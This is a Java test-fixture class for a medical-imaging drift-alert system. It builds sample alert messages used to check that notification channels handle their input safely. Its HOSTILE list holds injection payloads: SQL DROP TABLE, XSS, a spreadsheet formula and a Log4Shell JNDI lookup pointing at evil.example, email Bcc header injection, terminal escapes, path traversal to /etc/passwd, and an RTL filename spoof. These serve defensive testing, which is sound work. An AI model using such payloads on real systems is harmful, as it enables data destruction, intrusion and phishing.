package org.cxrwatch.notify;

import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import org.cxrwatch.alert.AlertKey;
import org.cxrwatch.alert.AlertType;
import org.cxrwatch.alert.Episode;
import org.cxrwatch.alert.Transition;
import org.cxrwatch.model.AlertSeverity;
import org.cxrwatch.model.Slice;
import org.cxrwatch.notice.Message;
import org.cxrwatch.notice.Notice;
import org.cxrwatch.window.Window;
import org.cxrwatch.window.WindowKind;

/** Messages that channels are tried with. */
final class Messages {

    static final Instant NOW = Instant.parse("2026-09-23T05:00:00Z");
    static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);

    /** Each would do something at some sink if it were taken for more than text. */
    static final List<String> HOSTILE = List.of(
            "'; DROP TABLE monitoring.alert; --",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "<!channel> <@U123> <http://evil.example|click> *bold* `code`",
            "x\r\nBcc: everybody@evil.example\r\n\r\nforged body",
            "\u001b[2J\u001b]0;title\u0007",
            "../../etc/passwd",
            "${jndi:ldap://evil.example/x} {{7*7}} %s%n",
            "\u202Egnp.exe");

    private Messages() {}

    static Message alert() {
        return message(
                "case-1/abc", "CRITICAL valley: images changed [case-1]", notice("site", "valley", "v1.0.0", "text"));
    }

    static Message message(String dedupKey, String subject, Notice notice) {
        return new Message(
                dedupKey,
                Message.Purpose.ALERT,
                "email",
                "team",
                AlertSeverity.CRITICAL,
                Instant.parse("2026-09-23T03:00:00Z"),
                subject,
                List.of("OPENED CRITICAL drift: valley", "What to check and do: docs/runbooks.md"),
                notice);
    }

    static Message test(AlertSeverity severity) {
        return new Message(
                "test/1",
                Message.Purpose.TEST,
                "email",
                "team",
                severity,
                NOW,
                "[TEST] Nothing has happened",
                List.of("Somebody tries this channel."),
                new Notice(List.of()));
    }

    /** A name wherever one can stand. */
    static Message hostile(String name) {
        Notice notice = notice("site", name, name, name);
        return new Message(
                name,
                Message.Purpose.ALERT,
                "email",
                "team",
                AlertSeverity.CRITICAL,
                NOW,
                name,
                List.of(name, "a line"),
                notice);
    }

    static Notice notice(String attribute, String value, String version, String text) {
        return new Notice(List.of(told("case-1", attribute, value, version, text)));
    }

    static Notice.CaseNews told(String caseId, String attribute, String value, String version, String text) {
        return new Notice.CaseNews(
                caseId,
                AlertSeverity.CRITICAL,
                value + ": images changed",
                List.of(alert(attribute, value, version, Transition.Kind.OPENED, AlertSeverity.CRITICAL, text)),
                List.of("scanner=" + value),
                List.of(
                        new Notice.Figure("mean_intensity " + value, "158", Optional.of("131")),
                        new Notice.Figure("rows", "412", Optional.empty())),
                List.of("Look at ten images of " + value),
                List.of("cxrwatch alerts ack case-1 --note '" + value + "'"),
                List.of(
                        new Notice.Link("Runbook of " + value, "https://docs.hospital.example/runbooks?a=1&b=2"),
                        new Notice.Link("Page", "docs/runbooks.md#drift")));
    }

    static Notice.AlertNews alert(
            String attribute, String value, String version, Transition.Kind kind, AlertSeverity severity, String text) {
        Window window = new Window(WindowKind.DAY, Instant.parse("2026-09-22T00:00:00Z"));
        return new Notice.AlertNews(
                new AlertKey(AlertType.DRIFT_DETECTED, "data", version, WindowKind.DAY, new Slice(attribute, value)),
                1,
                kind,
                severity,
                new Episode.Span(window, window, Optional.empty()),
                text);
    }
}
